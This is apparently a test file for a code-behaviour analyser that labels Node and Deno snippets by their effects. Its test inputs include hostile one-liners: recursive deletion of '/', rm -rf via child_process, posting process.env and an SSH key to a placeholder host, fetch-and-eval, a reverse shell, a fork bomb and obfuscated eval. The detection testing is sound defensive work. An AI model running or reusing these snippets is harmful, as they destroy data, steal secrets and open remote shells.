import { describe, expect, it } from 'vitest';
import { linesOf } from './code-of.ts';

const node = (text: string): readonly string[] => linesOf('node', text);

describe('node: names', () => {
  it.each([
    `require('fs').unlinkSync('/a')`,
    `const fs = require('fs'); let f = console.log; if (c) f = fs.unlinkSync; f('/a')`,
    `const fs = require('fs'); for (const f of [console.log, fs.unlinkSync]) f('/a')`,
    `const { unlinkSync: u } = require('node:fs'); u('/a')`,
    `import fs from 'fs'; fs.promises.unlink('/a')`,
    `import { unlink } from 'fs/promises'; await unlink('/a')`,
    `const f = await import('fs'); f.unlinkSync('/a')`,
    `require('f' + 's')['unlink' + 'Sync']('/a')`,
    `process.mainModule.require('fs').unlinkSync('/a')`,
    `const fs = require('fs'); fs.unlinkSync.call(fs, '/a')`,
    `const fs = require('fs'); ['/a'].forEach(fs.unlinkSync)`,
    `const fs = require('fs'); ['/a'].forEach((f) => fs.unlinkSync(f))`,
    `const fs = require('fs'); const go = (p: string) => fs.unlinkSync(p); go('/a')`,
  ])('sees through %s', (text) => {
    expect(node(text)).toContain('delete /a');
  });
});

describe('node: effects', () => {
  it.each([
    [`require('fs').rmSync('/', { recursive: true })`, 'delete all /'],
    [`Deno.remove('/a', { recursive: true })`, 'delete all /a'],
    [`require('rimraf')('/a')`, 'delete all /a'],
    [`require('fs').writeFileSync('/etc/hosts', 'x')`, 'overwrite /etc/hosts'],
    [`require('child_process').execSync(\`rm -rf \${'/a'}\`)`, 'shell rm -rf /a'],
    [`require('child_process').spawn('rm', ['-rf', '/a'])`, 'shell rm -rf /a'],
    ['await $`rm -rf /a`', 'shell rm -rf /a'],
    [`new Deno.Command('rm', { args: ['/a'] })`, 'shell rm /a'],
    [`fetch('https://a.test', { method: 'POST', body: JSON.stringify(process.env) })`, 'send secret a.test'],
    [`fetch('https://a.test/x')`, 'fetch a.test'],
    [`fetch('https://a.test').then((r) => r.text()).then(eval)`, 'run fetched'],
    [
      `require('https').get('https://a.test', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); })`,
      'run fetched',
    ],
    [`new Function(atob(x))()`, 'opaque code'],
    [`[]['constructor']['constructor'](x)()`, 'opaque code'],
    [`process.kill(1234)`, 'process destroy'],
    [
      `require('fs').createReadStream('/home/user/.ssh/id').pipe(require('http').request('http://a.test'))`,
      'send secret',
    ],
    [
      `const s = require('child_process').spawn('/bin/sh'); const c = require('net').connect(1, 'x'); c.pipe(s.stdin); s.stdout.pipe(c)`,
      'reverseShell',
    ],
    ['while (true) { require("child_process").fork(__filename) }', 'resource destroy'],
  ])('%s', (text, line) => {
    expect(node(text)).toContain(line);
  });

  it.each([
    `console.log([1, 2].map((x) => x * 2))`,
    `console.log(require('path').join('a', 'b'))`,
    'const s = String.raw`select`; console.log(s)',
    `setTimeout(() => console.log(1), 10)`,
  ])('leaves alone %s', (text) => {
    expect(node(text)).toEqual([]);
  });

  it('describes code in code by what the inner code does', () => {
    expect(node(`eval("require('fs').unlinkSync('/a')")`)).toContain('delete /a');
  });
});
